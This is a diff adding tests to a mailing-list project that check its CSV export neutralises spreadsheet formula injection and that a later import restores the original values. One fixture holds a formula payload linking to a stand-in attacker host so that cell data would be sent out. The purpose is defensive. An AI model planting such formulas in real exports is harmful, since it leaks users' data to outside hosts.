@@ -11,6 +11,7 @@ from pathlib import Path
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from mailer.headersafety import one_line
 from mailer.store import ImportCounts, MemberRecord, SubscriberStatus, SubscriberStore
 from mailer.store.columnmap import ColumnMap
 from mailer.store.csvio import import_members, write_members
@@ -249,3 +250,76 @@ class TestNobodyWhoLeftComesBack:
         assert set() == {email for email in was_out if after[email] is SubscriberStatus.active}
         said_left = {claim.email for claim in claims if claim.says == "left"}
         assert set() == {email for email in said_left if after[email] is SubscriberStatus.active}
+
+
+# Cells a spreadsheet would run (OWASP's list), and the quotes an export puts before them.
+RISKY = st.tuples(
+    st.sampled_from(["", "'", "''"]),
+    st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "x"]),
+    TEXT,
+).map(lambda parts: "".join(parts).strip())
+# A name, organisation or region is kept on one line by every way in (import, the form).
+RISKY_LINE = RISKY.filter(lambda value: one_line(value) == value)
+
+
+class TestFormulaInjection:
+    def test_an_export_runs_nothing_in_a_spreadsheet(self, store: SubscriberStore) -> None:
+        """Before: a name typed into the sign-up form was exported verbatim, and Excel ran it."""
+        attack = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'
+        store.add(
+            [
+                MemberRecord(
+                    "ann@example.org",
+                    name=attack,
+                    organisation="+1 555 0100",
+                    region="-East",
+                    attributes={"note": "@SUM(A1:A9)"},
+                    tags=("-youth",),
+                )
+            ],
+            source="test",
+        )
+        out = io.StringIO()
+        write_members(store.list_subscribers(), out)
+        [header, row] = list(csv.reader(io.StringIO(out.getvalue())))
+        assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in row)
+        cells = dict(zip(header, row, strict=True))
+        assert ("'" + attack, "'+1 555 0100", "'-East", "'@SUM(A1:A9)", "'-youth") == (
+            cells["name"],
+            cells["organisation"],
+            cells["region"],
+            cells["note"],
+            cells["tags"],
+        )
+
+    @settings(
+        max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+    )
+    @given(values=st.lists(st.tuples(RISKY_LINE, RISKY_LINE, RISKY), min_size=1, max_size=6))
+    def test_export_then_import_is_lossless(
+        self, store: SubscriberStore, tmp_path: Path, values: list[tuple[str, str, str]]
+    ) -> None:
+        """Import takes off exactly the quote export added: every member reads back unchanged."""
+        wipe(store)
+        store.add(
+            [
+                MemberRecord(
+                    f"m{n}@example.org",
+                    organisation=organisation,
+                    region=region,
+                    attributes={"note": note} if note else {},
+                )
+                for n, (organisation, region, note) in enumerate(values)
+            ],
+            source="test",
+        )
+        before = store.list_subscribers()
+        exported = io.StringIO()
+        write_members(before, exported)
+        wipe(store)
+        counts = _import(store, tmp_path / "export.csv", exported.getvalue(), bom=False)
+        assert len(values) == counts.added
+        after = {
+            m.email: (m.organisation, m.region, m.attributes) for m in store.list_subscribers()
+        }
+        assert {m.email: (m.organisation, m.region, m.attributes) for m in before} == after
